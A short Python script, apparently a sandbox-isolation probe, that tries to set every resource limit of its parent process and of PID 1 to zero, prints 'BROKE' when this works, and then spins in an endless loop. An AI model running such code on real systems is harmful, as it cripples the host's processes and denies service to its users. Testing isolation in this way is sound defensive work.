"""Sets the limits of its parent so low that the parent can neither run, open nor remember.

earns: honest
unsafe without: processes
"""

# %%
import os
import resource

for pid in {os.getppid() or 1, 1} - {os.getpid()}:
    for kind in (
        resource.RLIMIT_NOFILE,
        resource.RLIMIT_DATA,
        resource.RLIMIT_AS,
        resource.RLIMIT_STACK,
        resource.RLIMIT_NPROC,
        resource.RLIMIT_FSIZE,
        resource.RLIMIT_CPU,
    ):
        try:
            resource.prlimit(pid, kind, (0, 0))
            print("BROKE: has set limit", kind, "of", pid)
        except (OSError, ValueError) as error:
            print(pid, kind, error)

# %%
while True:
    pass
